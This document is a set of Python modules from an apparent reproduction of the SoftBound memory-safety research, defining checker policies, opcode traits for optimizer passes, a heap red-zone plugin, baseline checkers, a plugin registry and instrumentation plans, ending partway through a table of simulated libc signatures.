    def __repr__(self):
        return f"<{type(self).__name__} {self.name!r}>"
