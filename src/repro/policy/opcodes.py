"""Opcode-trait registry: what the optimizer may do with a check opcode.

The loop-aware check passes (:mod:`repro.opt.checkelim`,
:mod:`repro.opt.licm`, :mod:`repro.opt.checkwiden`) used to
pattern-match opcode name strings (``"sb_check"``,
``"sb_temporal_check"``, ``"sb_meta_load"``) and two hard-coded
invalidation sets in :mod:`repro.ir.instructions`.  That closed the
optimizer to exactly the built-in instrumentation: a policy adding its
own check opcode could never be deduplicated or hoisted, and — worse —
could silently *be* moved by a pass that did not know the opcode had
effects.

This module is the open replacement.  Every check-like opcode declares
:class:`OpcodeTraits` describing its obligations:

* ``kind`` — ``"check"``, ``"meta_load"``, ``"meta_store"``,
  ``"meta_clear"`` or ``"other"``; the passes use it instead of opcode
  string comparisons.
* ``dedupable`` / ``hoistable`` / ``widenable`` — whether a dominated
  duplicate may be removed, a loop-invariant occurrence hoisted to the
  preheader, and a per-iteration occurrence widened behind a loop
  guard.  An unregistered opcode has every capability off, so a plugin
  opcode is conservatively left alone until its policy says otherwise.
* ``writes_metadata_table`` / ``releases_locks`` — whether executing
  the opcode can invalidate metadata-table reads or temporal liveness;
  these extend the core invalidation sets the passes consult.
* ``provable`` — whether the ``-O2`` prove pass (:mod:`repro.prove`)
  may statically *delete* an instance of this opcode when the solver
  discharges its verification condition.  Requires the opcode's trap
  condition to be exactly the modelled ``(base, bound)`` interval /
  ``(key, lock)`` liveness contract.

The core SoftBound opcodes are registered here (they are the reference
instances of the protocol); policies register additional opcodes via
:func:`register_opcode_traits`, usually through
:meth:`repro.policy.base.CheckerPolicy.register_vm_handlers`.
"""

from dataclasses import dataclass

from ..ir.instructions import LOCK_RELEASERS, METADATA_TABLE_WRITERS


@dataclass(frozen=True)
class OpcodeTraits:
    """Optimizer-facing contract of one check-like opcode."""

    opcode: str
    kind: str = "other"
    dedupable: bool = False
    hoistable: bool = False
    widenable: bool = False
    provable: bool = False
    writes_metadata_table: bool = False
    releases_locks: bool = False


#: opcode name -> OpcodeTraits.  Mutated only by register_opcode_traits.
_TRAITS = {}

_NO_TRAITS = OpcodeTraits(opcode="?")


def register_opcode_traits(traits):
    """Register (or idempotently re-register) an opcode's traits.

    Re-registering with *different* traits raises: two policies
    disagreeing about what the optimizer may do with an opcode is a
    bug, not a tie to break silently.
    """
    existing = _TRAITS.get(traits.opcode)
    if existing is not None and existing != traits:
        raise ValueError(
            f"conflicting traits for opcode {traits.opcode!r}: "
            f"{existing} vs {traits}")
    _TRAITS[traits.opcode] = traits
    return traits


def traits_of(opcode):
    """The registered traits for ``opcode`` (capability-free defaults
    when unregistered — unknown opcodes are never touched)."""
    return _TRAITS.get(opcode, _NO_TRAITS)


def table_writer_opcodes():
    """Opcodes that may write the disjoint metadata table: the core set
    plus every registered opcode declaring ``writes_metadata_table``."""
    extra = {op for op, t in _TRAITS.items() if t.writes_metadata_table}
    return METADATA_TABLE_WRITERS | frozenset(extra)


def lock_releaser_opcodes():
    """Opcodes that may change temporal liveness: the core set plus
    every registered opcode declaring ``releases_locks``."""
    extra = {op for op, t in _TRAITS.items() if t.releases_locks}
    return LOCK_RELEASERS | frozenset(extra)


# -- the core SoftBound opcodes, registered through the same door ------------

register_opcode_traits(OpcodeTraits(
    opcode="sb_check", kind="check",
    # provable: the trap condition is exactly the modelled
    # base <= ptr && ptr + size <= bound interval contract.
    dedupable=True, hoistable=True, widenable=True, provable=True))
register_opcode_traits(OpcodeTraits(
    opcode="sb_temporal_check", kind="check",
    # Dedupable and hoistable under the lock-invalidation discipline the
    # passes implement (kill at calls); never widened — widening removes
    # per-iteration evaluation, and liveness is genuinely per-access.
    # provable: the immortal-lock rule can discharge global accesses.
    dedupable=True, hoistable=True, widenable=False, provable=True))
register_opcode_traits(OpcodeTraits(
    opcode="sb_meta_load", kind="meta_load",
    dedupable=True, hoistable=True))
register_opcode_traits(OpcodeTraits(
    opcode="sb_meta_store", kind="meta_store",
    writes_metadata_table=True))
register_opcode_traits(OpcodeTraits(
    opcode="sb_meta_clear", kind="meta_clear",
    writes_metadata_table=True))
