"""Heap red-zone / quarantine checker — the policy API's worked example.

A classic allocator-hardening scheme (electric-fence / heap-canary
family): every heap allocation is followed by a *red zone* no program
access may touch, and freed blocks sit in a *quarantine* so
use-after-free accesses hit poisoned ground instead of recycled memory.
Detection properties, honestly modelled:

* **Heap overflow** — any load/store overlapping a live allocation's
  red zone traps immediately (the zone covers the allocator's alignment
  pad plus the successor block's header, which the simulated allocator
  guarantees is never live payload).
* **Use-after-free / stale-realloc access** — accesses into a
  quarantined block trap with a ``temporal_violation``.  Like every
  quarantine scheme the detection is *best-effort*: when the allocator
  hands the quarantined range to a new allocation, the entry is evicted
  and a later stale access is silently absorbed — exactly the
  probabilistic gap the paper's lock-and-key mechanism closes, which
  the temporal-table extension row makes visible.
* **Stack, globals, sub-object overflows** — out of scope (heap-only),
  and *declared* out of scope via ``detects``.

This module is deliberately written **only against the public policy
API** — :class:`repro.policy.CheckerPolicy`,
:func:`repro.policy.register_policy`, the
:class:`repro.vm.machine.Observer` hook interface and
``cost_model`` — and is loaded through the same plugin-discovery path
external ``REPRO_PLUGINS`` modules use.  It is the proof (and the
``docs/POLICY.md`` walkthrough) that a new checker lands with zero core
edits.
"""

from ..vm.errors import Trap, TrapKind
from ..vm.machine import Observer
from .base import CheckerPolicy
from .registry import register_policy

#: Virtual red-zone bytes after each allocation's payload.  The
#: simulated allocator 16-aligns payloads and prefixes each block with a
#: 16-byte header, so [payload+size, payload+size+16) is never another
#: allocation's payload — the zone is always enforceable.
REDZONE_BYTES = 16


class RedZoneChecker(Observer):
    """Per-run observer: live red zones + freed-block quarantine."""

    source_name = "redzone"

    def __init__(self):
        self.live = {}        # payload addr -> size
        self.quarantine = {}  # freed payload addr -> size
        self.violations = 0

    # -- allocator events ----------------------------------------------

    def on_heap_alloc(self, addr, size):
        # The allocator recycled this range: evict overlapping
        # quarantine entries (their stale pointers are lost causes now —
        # the scheme's documented probabilistic gap).
        if self.quarantine:
            end = addr + size
            dead = [qaddr for qaddr, qsize in self.quarantine.items()
                    if qaddr < end and addr < qaddr + qsize]
            for qaddr in dead:
                del self.quarantine[qaddr]
        self.live[addr] = size

    def on_heap_free(self, addr, size):
        if self.live.pop(addr, None) is not None:
            self.quarantine[addr] = size

    # -- access checking -----------------------------------------------

    def _check(self, addr, size, is_write):
        machine = self.machine
        stats = machine.stats
        stats.charge("redzone.check")
        stats.checks += 1
        heap = machine.memory.heap
        if not (heap.base <= addr < heap.end):
            return  # heap-only scheme: stack/globals out of scope
        end = addr + size
        for start, live_size in self.live.items():
            zone = start + live_size
            if addr < zone + REDZONE_BYTES and end > zone:
                self.violations += 1
                kind = "write" if is_write else "read"
                raise Trap(
                    TrapKind.SPATIAL_VIOLATION,
                    f"heap {kind} of {size} bytes into the red zone of "
                    f"the {live_size}-byte block at 0x{start:x}",
                    address=addr,
                    source=self.source_name,
                )
        for start, dead_size in self.quarantine.items():
            if addr < start + dead_size and start < end:
                self.violations += 1
                kind = "write" if is_write else "read"
                raise Trap(
                    TrapKind.TEMPORAL_VIOLATION,
                    f"heap {kind} of {size} bytes in the quarantined "
                    f"{dead_size}-byte block at 0x{start:x} (freed)",
                    address=addr,
                    source=self.source_name,
                )

    def on_load(self, addr, size):
        self._check(addr, size, is_write=False)

    def on_store(self, addr, size):
        self._check(addr, size, is_write=True)


class RedZonePolicy(CheckerPolicy):
    name = "redzone"
    description = "heap red-zone + free-quarantine observer (plugin)"
    family = "plugin"
    config = None
    observer_factory = RedZoneChecker
    #: One range probe per heap access: cheaper than full DBI shadow
    #: memory (valgrind.per_access 12), pricier than an inline compare.
    cost_model = {"redzone.check": 3}
    detects = frozenset({"heap_overflow", "use_after_free"})

    def capability_row(self):
        """A measured Table 1 extension row: run the standard probes
        under this policy and report what actually happened."""
        from ..baselines.capabilities import measure_policy_row

        return measure_policy_row(self, scheme="RedZone")

    def temporal_row(self):
        """A temporal-table extension row: what the quarantine actually
        catches of the lock-and-key suite (measured, not claimed)."""
        from ..harness.temporal import policy_temporal_detection

        return ("redzone", policy_temporal_detection(self.name))


register_policy(RedZonePolicy)
