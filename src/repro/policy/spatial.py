"""The SoftBound spatial policies: the paper's Figure 2 matrix.

Four registered points — {Complete, Stores} × {ShadowSpace, HashTable}
— plus the unprotected ``none`` policy.  These are the reference
implementations of the :class:`~repro.policy.base.CheckerPolicy`
protocol: transform-based, disjoint metadata, full optimizer
capabilities (their checks dedupe, hoist and widen).
"""

from ..softbound.config import (
    FULL_HASH,
    FULL_SHADOW,
    STORE_HASH,
    STORE_SHADOW,
)
from .base import CheckerPolicy
from .instrumentation import SpatialPlan
from .registry import register_policy


class NonePolicy(CheckerPolicy):
    """Uninstrumented build: the overhead baseline every table divides
    by."""

    name = "none"
    description = "uninstrumented build, no checking"
    family = "none"
    config = None
    detects = frozenset()
    # provable (vacuously): no checks exist, so -O2 is a no-op rather
    # than an error — keeps O-level sweeps uniform across policies.
    provable = True


class SpatialPolicy(CheckerPolicy):
    """SoftBound proper: per-pointer (base, bound) in a disjoint
    facility, checked at every dereference."""

    name = "spatial"
    description = "SoftBound full spatial checking, shadow space"
    family = "softbound"
    config = FULL_SHADOW
    meta_arity = 2
    dedupable = True
    hoistable = True
    widenable = True
    # provable audit: sb_check traps iff ptr < base or ptr+size > bound,
    # which is exactly the interval contract the prove solver models,
    # and the (base, bound) companions are immutable per allocation.
    # Holds for every subclass (hash/store-only change *where* metadata
    # lives and *which* accesses are checked, not the trap condition).
    provable = True
    check_cost_key = "sb.check"
    detects = frozenset({"stack_overflow", "heap_overflow",
                         "subobject_overflow"})

    def instrumentation_plan(self, config=None):
        return SpatialPlan(config or self.config)


class SpatialHashPolicy(SpatialPolicy):
    name = "spatial-hash"
    description = "SoftBound full spatial checking, hash table"
    config = FULL_HASH


class StoreOnlyPolicy(SpatialPolicy):
    name = "spatial-store-only"
    description = ("metadata fully propagated, only stores checked "
                   "(shadow space)")
    config = STORE_SHADOW


class StoreOnlyHashPolicy(SpatialPolicy):
    name = "store-only-hash"
    description = ("metadata fully propagated, only stores checked "
                   "(hash table)")
    config = STORE_HASH


NONE = register_policy(NonePolicy)
SPATIAL = register_policy(SpatialPolicy)
SPATIAL_HASH = register_policy(SpatialHashPolicy)
STORE_ONLY = register_policy(StoreOnlyPolicy)
STORE_ONLY_HASH = register_policy(StoreOnlyHashPolicy)
