"""Policy registry and plugin discovery.

:func:`register_policy` is the single door every checker — built-in or
third-party — walks through.  Registration performs the policy's side
effects exactly once: cost-model keys merge into
:data:`repro.vm.costs.OP_COSTS`, and VM opcode handlers install into
the shared dispatch tables (:mod:`repro.vm.dispatch`).  The registry
preserves insertion order; :mod:`repro.api.profiles` derives the
``--profile`` namespace from it, so a registered policy is immediately
selectable everywhere (CLI, Session, harness, batch workers) with zero
core edits.

Third-party discovery (:func:`load_plugins`) imports, in order:

* the in-tree plugins (currently :mod:`repro.policy.redzone`, which is
  written purely against the public API as the worked example);
* every module named in the ``REPRO_PLUGINS`` environment variable
  (comma/colon-separated import paths);
* every ``repro.policies`` entry point, when ``importlib.metadata`` can
  enumerate any (absent in stripped-down environments — gated, never
  required).

A plugin module registers its policies at import time by calling
:func:`register_policy`; discovery is idempotent and lazy — it runs the
first time anyone asks for the registry's contents, not at package
import, so low-level consumers (the optimizer querying opcode traits)
never pay for it.
"""

import os

from .base import CheckerPolicy

#: name -> CheckerPolicy instance, in registration order.
_POLICIES = {}

#: In-tree plugins loaded through the same discovery path external
#: plugins use (the proof that the path works end to end).
BUILTIN_PLUGINS = ("repro.policy.redzone",)

_plugins_loaded = False


class PolicyError(ValueError):
    """Invalid policy registration (duplicate/conflicting/ill-formed)."""


def register_policy(policy):
    """Register a :class:`CheckerPolicy` (class or instance).

    Idempotent for an identical re-registration (same class, same
    name); a *different* policy under a taken name raises — plugins
    must not shadow built-ins silently.  Returns the instance.
    """
    if isinstance(policy, type):
        policy = policy()
    if not isinstance(policy, CheckerPolicy):
        raise PolicyError(f"not a CheckerPolicy: {policy!r}")
    if not policy.name:
        raise PolicyError(f"policy {policy!r} has no name")
    existing = _POLICIES.get(policy.name)
    if existing is not None:
        if type(existing) is type(policy):
            return existing
        raise PolicyError(
            f"policy name {policy.name!r} already registered by "
            f"{type(existing).__name__}")
    # Side effects first, so a failure leaves the registry unchanged.
    if policy.cost_model:
        from ..vm.costs import register_costs

        register_costs(policy.cost_model)
    from ..vm.dispatch import register_opcode

    policy.register_vm_handlers(register_opcode)
    _POLICIES[policy.name] = policy
    return policy


def unregister_policy(name):
    """Remove a policy (tests only; VM handlers and cost keys remain —
    registration side effects are additive by design)."""
    return _POLICIES.pop(name, None)


def load_plugins(extra=()):
    """Import plugin modules (in-tree, ``REPRO_PLUGINS``, entry points,
    plus ``extra``); idempotent for the environment-driven set.
    Returns the list of module names imported this call."""
    global _plugins_loaded
    import importlib

    loaded = []
    wanted = []
    discovering = not _plugins_loaded
    if discovering:
        wanted.extend(BUILTIN_PLUGINS)
        env = os.environ.get("REPRO_PLUGINS", "")
        wanted.extend(p for p in env.replace(":", ",").split(",") if p.strip())
        try:
            from importlib.metadata import entry_points

            try:
                points = entry_points(group="repro.policies")
            except TypeError:  # pre-3.10 signature
                points = entry_points().get("repro.policies", ())
            wanted.extend(point.value.split(":")[0] for point in points)
        except Exception:
            pass  # no packaging metadata available: env/in-tree only
    wanted.extend(extra)
    for module_name in wanted:
        module_name = module_name.strip()
        if module_name:
            importlib.import_module(module_name)
            loaded.append(module_name)
    if discovering:
        # Only after every discovered module imported cleanly: a broken
        # plugin raises on *every* enumeration (loudly, retryably)
        # instead of silently skipping the modules listed after it.
        _plugins_loaded = True
    return loaded


def all_policies():
    """Registered policies in registration order (plugins loaded)."""
    load_plugins()
    return tuple(_POLICIES.values())


def get_policy(name):
    """Look up a policy by name; raises ``KeyError`` listing the known
    names for typos."""
    load_plugins()
    try:
        return _POLICIES[name]
    except KeyError:
        raise KeyError(f"unknown policy {name!r}; known policies: "
                       f"{', '.join(_POLICIES)}") from None


def policy_for_config(config):
    """Resolve a (possibly ad-hoc) :class:`SoftBoundConfig` to the
    policy that owns its discipline, via ``handles_config``.  Ad-hoc
    configs (ablations) resolve to the policy of their variant."""
    load_plugins()
    for policy in _POLICIES.values():
        if policy.handles_config(config):
            return policy
    raise KeyError(
        f"no registered policy handles config {config!r} "
        f"(variant {getattr(config, 'variant', None)!r}); register one "
        f"with repro.policy.register_policy")
