"""``repro.policy`` — the pluggable checker-policy API.

One extension point for every memory-safety checker in the system: the
SoftBound spatial matrix, the lock-and-key temporal discipline, the
paper's comparison baselines and any third-party scheme all implement
:class:`CheckerPolicy` and walk through :func:`register_policy`.  The
``ProtectionProfile`` registry (:mod:`repro.api.profiles`), the
``profiles`` CLI subcommand, :class:`~repro.api.session.Session`, the
harness tables and the batch workers all derive from this registry, so
a registered policy is selectable everywhere with zero core edits.

Writing a new checker (full walkthrough in ``docs/POLICY.md``)::

    from repro.policy import CheckerPolicy, register_policy

    class MyChecker(CheckerPolicy):
        name = "my-checker"
        description = "what it protects"
        observer_factory = MyObserver        # or: config = ...
        cost_model = {"mychecker.check": 4}
        detects = frozenset({"heap_overflow"})

    register_policy(MyChecker)

Ship it as a module and name it in ``REPRO_PLUGINS`` (or a
``repro.policies`` entry point); ``python -m repro profiles`` lists it,
``--profile my-checker`` runs it, and the conformance suite
(``tests/policy/test_conformance.py``) sweeps it.  The in-tree
:mod:`repro.policy.redzone` plugin is the worked example.

The built-in policies register at import below; in-tree and external
plugins load lazily through :func:`load_plugins` the first time the
registry is enumerated.
"""

from .base import CheckerPolicy
from .instrumentation import SpatialPlan, TemporalPlan, plan_for_config
from .opcodes import (
    OpcodeTraits,
    lock_releaser_opcodes,
    register_opcode_traits,
    table_writer_opcodes,
    traits_of,
)
from .registry import (
    PolicyError,
    all_policies,
    get_policy,
    load_plugins,
    policy_for_config,
    register_policy,
    unregister_policy,
)

# Built-in policies (importing registers them, in presentation order:
# the spatial matrix, temporal, the baselines; the red-zone plugin
# rides the discovery path in registry.BUILTIN_PLUGINS instead).
from . import spatial as _spatial          # noqa: F401  (registers)
from . import temporal as _temporal        # noqa: F401  (registers)
from . import baselines as _baselines      # noqa: F401  (registers)
from .temporal import FULL_PROTECTION

__all__ = [
    "CheckerPolicy", "PolicyError", "OpcodeTraits", "SpatialPlan",
    "TemporalPlan", "FULL_PROTECTION", "all_policies", "get_policy",
    "load_plugins", "plan_for_config", "policy_for_config",
    "register_policy", "unregister_policy", "register_opcode_traits",
    "traits_of", "table_writer_opcodes", "lock_releaser_opcodes",
]
