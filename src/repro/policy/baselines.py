"""The paper's comparison baselines as registered policies.

Two styles, both first-class under the :class:`CheckerPolicy` protocol:

* **Transform-based** (MSCC, the fat-pointer variants): instrumented
  through the same IR transform as SoftBound but with their own
  metadata facility, cost keys and optimizer capabilities.  The
  fat-pointer policies keep metadata *inline* (program stores can reach
  it), so they forfeit the hoist/widen capabilities and the transform's
  block-local metadata-availability cache — expressed here as
  ``disjoint_metadata = False`` on their plan, not as a variant-name
  check in the transform.
* **Observer-based** (Valgrind, Mudflap, Jones-Kelly): per-run access
  observers attached to the VM; nothing is compiled differently, so
  their profiles all share one compiled program per source.
"""

from ..baselines import JonesKellyChecker, MudflapChecker, ValgrindChecker
from ..baselines.fatptr import NAIVE_FATPTR_CONFIG, WILD_FATPTR_CONFIG
from ..baselines.mscc import MSCC_CONFIG
from .base import CheckerPolicy
from .instrumentation import SpatialPlan
from .registry import register_policy


class _InlineMetadataPlan(SpatialPlan):
    """Plan for inline-metadata facilities: program stores can write the
    metadata, so the transform must re-read the table at every pointer
    load (no block-local availability caching)."""

    disjoint_metadata = False


class MsccPolicy(CheckerPolicy):
    name = "mscc"
    description = ("MSCC baseline (linked shadow metadata, no sub-object "
                   "bounds)")
    family = "baseline"
    config = MSCC_CONFIG
    meta_arity = 2
    dedupable = True
    hoistable = False
    widenable = False
    # provable audit: NOT provable — MSCC omits sub-object bounds, so
    # its trap condition is coarser than the interval contract the
    # prove solver models (a proof against (base, bound) would delete
    # checks MSCC evaluates differently).
    provable = False
    check_cost_key = "mscc.check"
    detects = frozenset({"stack_overflow", "heap_overflow"})

    def instrumentation_plan(self, config=None):
        return SpatialPlan(config or self.config)

    def make_facility(self, config=None):
        from ..baselines.mscc import MsccMetadata

        return MsccMetadata()


class FatptrNaivePolicy(CheckerPolicy):
    name = "fatptr-naive"
    description = ("SafeC-style inline fat pointers (clobberable "
                   "metadata)")
    family = "baseline"
    config = NAIVE_FATPTR_CONFIG
    meta_arity = 2
    dedupable = True
    hoistable = False
    widenable = False
    # provable audit: NOT provable — inline metadata is clobberable by
    # program stores, so the companion (base, bound) the analyzer
    # reasons about is not guaranteed to be the one the check reads.
    # (Inherited by fatptr-wild.)
    provable = False
    check_cost_key = "fatptr.check"
    detects = frozenset({"stack_overflow", "heap_overflow"})

    def instrumentation_plan(self, config=None):
        return _InlineMetadataPlan(config or self.config)

    def make_facility(self, config=None):
        from ..baselines.fatptr import make_fatptr_facility

        return make_fatptr_facility((config or self.config).variant)


class FatptrWildPolicy(FatptrNaivePolicy):
    name = "fatptr-wild"
    description = "CCured-style WILD fat pointers (tag bits)"
    config = WILD_FATPTR_CONFIG


class ValgrindPolicy(CheckerPolicy):
    name = "valgrind"
    description = "Valgrind-style heap addressability observer"
    family = "baseline"
    config = None
    # provable audit (all three observer policies): NOT provable — the
    # checking happens in a per-run VM observer, not in sb_check
    # instructions, so there is nothing the prove pass could soundly
    # delete; -O2 must be refused rather than silently mean -O1.
    observer_factory = ValgrindChecker
    #: Heap addressability also catches freed-block accesses until the
    #: allocator reuses the range (measured by the conformance suite).
    detects = frozenset({"heap_overflow", "use_after_free"})


class MudflapPolicy(CheckerPolicy):
    name = "mudflap"
    description = "Mudflap-style object-table observer"
    family = "baseline"
    config = None
    observer_factory = MudflapChecker
    detects = frozenset({"stack_overflow", "heap_overflow",
                         "use_after_free", "dangling_stack"})


class JonesKellyPolicy(CheckerPolicy):
    name = "jones-kelly"
    description = "Jones-Kelly object-table observer (splay tree)"
    family = "baseline"
    config = None
    observer_factory = JonesKellyChecker
    detects = frozenset({"stack_overflow", "heap_overflow",
                         "use_after_free", "dangling_stack"})


MSCC = register_policy(MsccPolicy)
FATPTR_NAIVE = register_policy(FatptrNaivePolicy)
FATPTR_WILD = register_policy(FatptrWildPolicy)
VALGRIND = register_policy(ValgrindPolicy)
MUDFLAP = register_policy(MudflapPolicy)
JONES_KELLY = register_policy(JonesKellyPolicy)
