"""Instrumentation plans: the hooks the SoftBound IR transform drives.

The transform (:mod:`repro.softbound.transform`) owns the *mechanics*
of metadata propagation — companion registers, copy webs, the
block-local availability cache — but what gets **emitted** at each
dereference site, and how wide the per-pointer metadata is, belongs to
the policy.  A plan is the per-compile object carrying those decisions:

* ``meta_arity`` — companion values per pointer (2 spatial, 4 widened
  with the temporal (key, lock) pair); the transform sizes call
  argument lists, return annotations, table entries and extra
  parameters from it.
* ``temporal`` — whether the temporal metadata channel (``tmeta``) is
  propagated at all.
* :meth:`emit_access_checks` — called at every load/store/memcopy site
  with the address, access size and access kind; the plan appends the
  check instruction(s).  This is where store-only mode, the
  spatial-then-temporal ordering, and any policy-specific check opcode
  live.

Plans are cheap per-compile objects; :func:`plan_for_config` builds the
right one for a (possibly ad-hoc) config.  A transform-based plugin
policy overrides :meth:`CheckerPolicy.instrumentation_plan` to return
its own plan, typically subclassing :class:`SpatialPlan` and emitting
its registered opcode after (or instead of) the spatial check.
"""

from ..ir import instructions as ins
from ..ir.irtypes import I64
from ..ir.values import Const
from ..softbound.config import CheckMode


class SpatialPlan:
    """The paper's spatial discipline: one ``sb_check`` per dereference
    (stores only, in store-only mode)."""

    meta_arity = 2
    temporal = False
    #: Program stores cannot reach the metadata (paper Section 3.4's
    #: incorruptibility property).  The transform's block-local
    #: metadata-availability cache is only sound when this holds;
    #: inline-metadata plans (fat pointers) set it False.
    disjoint_metadata = True

    def __init__(self, config):
        self.config = config

    def checks_access(self, access_kind):
        """Whether this access kind is checked at all (store-only mode
        skips loads — metadata still propagates fully)."""
        return not (access_kind == "load"
                    and self.config.mode is CheckMode.STORE_ONLY)

    def emit_access_checks(self, tx, addr_value, size, access_kind):
        """Append the dereference check(s) for one memory access to the
        transform's output stream.  ``tx`` is the per-function
        transform; ``tx.meta_of``/``tx.tmeta_of`` resolve companion
        values and ``tx.out`` is the instruction sink."""
        if not self.checks_access(access_kind):
            return
        base, bound = tx.meta_of(addr_value)
        tx.out.append(ins.SbCheck(ptr=addr_value, base=base, bound=bound,
                                  size=Const(size, I64),
                                  access_kind=access_kind))


class TemporalPlan(SpatialPlan):
    """Spatial + lock-and-key: every checked access additionally proves
    the pointed-to allocation is still alive."""

    meta_arity = 4
    temporal = True

    def emit_access_checks(self, tx, addr_value, size, access_kind):
        super().emit_access_checks(tx, addr_value, size, access_kind)
        if not self.checks_access(access_kind):
            return
        # Emitted *after* the spatial check: a pointer reaching the
        # temporal check has in-bounds (base, bound), so pointers
        # without provenance (NULL bounds) trap spatially first and
        # the temporal check never produces a false positive.
        key, lock = tx.tmeta_of(addr_value)
        tx.out.append(ins.SbTemporalCheck(ptr=addr_value, key=key,
                                          lock=lock,
                                          access_kind=access_kind))


def plan_for_config(config):
    """The instrumentation plan for a (possibly ad-hoc) config, resolved
    through the policy that owns its discipline."""
    from .registry import policy_for_config

    policy = policy_for_config(config)
    plan = policy.instrumentation_plan(config)
    if plan is None:
        raise ValueError(f"policy {policy.name!r} has no instrumentation "
                         f"plan but config {config!r} asked for one")
    return plan
