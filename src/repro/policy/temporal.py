"""The lock-and-key temporal policies (CETS-style companion mechanism).

Widened metadata (arity 4: base, bound, key, lock), the temporal check
emitted after every spatial check, and the ``full`` configuration that
additionally turns on function-pointer signature encoding.  Temporal
checks dedupe and hoist under the lock-invalidation discipline (killed
at calls) but are never widened away — liveness is per-access.
"""

from ..softbound.config import TEMPORAL_HASH, TEMPORAL_SHADOW
from .base import CheckerPolicy
from .instrumentation import TemporalPlan
from .registry import register_policy

_SPATIAL_DETECTS = frozenset({"stack_overflow", "heap_overflow",
                              "subobject_overflow"})
_TEMPORAL_DETECTS = frozenset({"use_after_free", "double_free",
                               "dangling_stack"})


class TemporalPolicy(CheckerPolicy):
    """Spatial + lock-and-key temporal checking over the shadow space."""

    name = "temporal"
    description = "spatial + lock-and-key temporal checking, shadow space"
    family = "softbound"
    config = TEMPORAL_SHADOW
    meta_arity = 4
    dedupable = True
    hoistable = True
    widenable = True
    # provable audit: spatial checks as in SpatialPolicy; temporal
    # checks are only ever deleted under the immortal-lock rule
    # ((key, lock) == (GLOBAL_KEY, GLOBAL_LOCK), which LockSpace pins
    # forever).  Holds for temporal-hash and full too.
    provable = True
    check_cost_key = "sb.check"
    detects = _SPATIAL_DETECTS | _TEMPORAL_DETECTS

    def instrumentation_plan(self, config=None):
        return TemporalPlan(config or self.config)


class TemporalHashPolicy(TemporalPolicy):
    name = "temporal-hash"
    description = "spatial + lock-and-key temporal checking, hash table"
    config = TEMPORAL_HASH


def _full_config():
    # Deferred: repro.api.profiles also exports this constant; the
    # policy layer owns the definition now, the facade re-exports it.
    from ..softbound.config import CheckMode, MetadataScheme, SoftBoundConfig

    return SoftBoundConfig(CheckMode.FULL, MetadataScheme.SHADOW_SPACE,
                           encode_fnptr_signature=True, temporal=True)


#: Full spatial + temporal + the function-pointer signature extension:
#: every dynamic check the system implements, on at once.
FULL_PROTECTION = _full_config()


class FullPolicy(TemporalPolicy):
    name = "full"
    description = "everything on: spatial + temporal + fn-pointer signatures"
    config = FULL_PROTECTION


TEMPORAL = register_policy(TemporalPolicy)
TEMPORAL_HASH_POLICY = register_policy(TemporalHashPolicy)
FULL = register_policy(FullPolicy)
