"""Builtin function signatures shared by the type checker and the VM.

These model the slice of libc the paper's workloads need, plus the two
SoftBound-specific entry points the paper describes: ``setbound()``
(Section 5.2, the programmer escape hatch for custom allocators and
integer-to-pointer casts) and ``abort()``.

Every builtin is ultimately implemented over *simulated* memory in
:mod:`repro.vm.libc`, so that (a) buffer overflows inside e.g. ``strcpy``
genuinely corrupt simulated memory and (b) SoftBound wrappers can check
them (Section 5.2's library-wrapper discussion).
"""

from . import ctypes_ as ct

_JMP_BUF = ct.ArrayType(ct.LONG, 8)

# name -> FunctionType
BUILTIN_SIGNATURES = {
    "malloc": ct.FunctionType(ct.VOID_PTR, (ct.LONG,)),
    "calloc": ct.FunctionType(ct.VOID_PTR, (ct.LONG, ct.LONG)),
    "realloc": ct.FunctionType(ct.VOID_PTR, (ct.VOID_PTR, ct.LONG)),
    "free": ct.FunctionType(ct.VOID, (ct.VOID_PTR,)),
    "memcpy": ct.FunctionType(ct.VOID_PTR, (ct.VOID_PTR, ct.VOID_PTR, ct.LONG)),
    "memmove": ct.FunctionType(ct.VOID_PTR, (ct.VOID_PTR, ct.VOID_PTR, ct.LONG)),
    "memset": ct.FunctionType(ct.VOID_PTR, (ct.VOID_PTR, ct.INT, ct.LONG)),
    "memcmp": ct.FunctionType(ct.INT, (ct.VOID_PTR, ct.VOID_PTR, ct.LONG)),
    "strcpy": ct.FunctionType(ct.CHAR_PTR, (ct.CHAR_PTR, ct.CHAR_PTR)),
    "strncpy": ct.FunctionType(ct.CHAR_PTR, (ct.CHAR_PTR, ct.CHAR_PTR, ct.LONG)),
    "strcat": ct.FunctionType(ct.CHAR_PTR, (ct.CHAR_PTR, ct.CHAR_PTR)),
    "strlen": ct.FunctionType(ct.LONG, (ct.CHAR_PTR,)),
    "strcmp": ct.FunctionType(ct.INT, (ct.CHAR_PTR, ct.CHAR_PTR)),
    "strncmp": ct.FunctionType(ct.INT, (ct.CHAR_PTR, ct.CHAR_PTR, ct.LONG)),
    "strchr": ct.FunctionType(ct.CHAR_PTR, (ct.CHAR_PTR, ct.INT)),
    "gets": ct.FunctionType(ct.CHAR_PTR, (ct.CHAR_PTR,)),
    "atoi": ct.FunctionType(ct.INT, (ct.CHAR_PTR,)),
    "printf": ct.FunctionType(ct.INT, (ct.CHAR_PTR,), varargs=True),
    "sprintf": ct.FunctionType(ct.INT, (ct.CHAR_PTR, ct.CHAR_PTR), varargs=True),
    "snprintf": ct.FunctionType(ct.INT, (ct.CHAR_PTR, ct.LONG, ct.CHAR_PTR), varargs=True),
    "puts": ct.FunctionType(ct.INT, (ct.CHAR_PTR,)),
    "putchar": ct.FunctionType(ct.INT, (ct.INT,)),
    "getchar": ct.FunctionType(ct.INT, ()),
    "abs": ct.FunctionType(ct.INT, (ct.INT,)),
    "labs": ct.FunctionType(ct.LONG, (ct.LONG,)),
    "rand": ct.FunctionType(ct.INT, ()),
    "srand": ct.FunctionType(ct.VOID, (ct.INT,)),
    "exit": ct.FunctionType(ct.VOID, (ct.INT,)),
    "abort": ct.FunctionType(ct.VOID, ()),
    "sqrt": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
    "fabs": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
    "floor": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
    "ceil": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
    "pow": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE, ct.DOUBLE)),
    "sin": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
    "cos": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
    "exp": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
    "log": ct.FunctionType(ct.DOUBLE, (ct.DOUBLE,)),
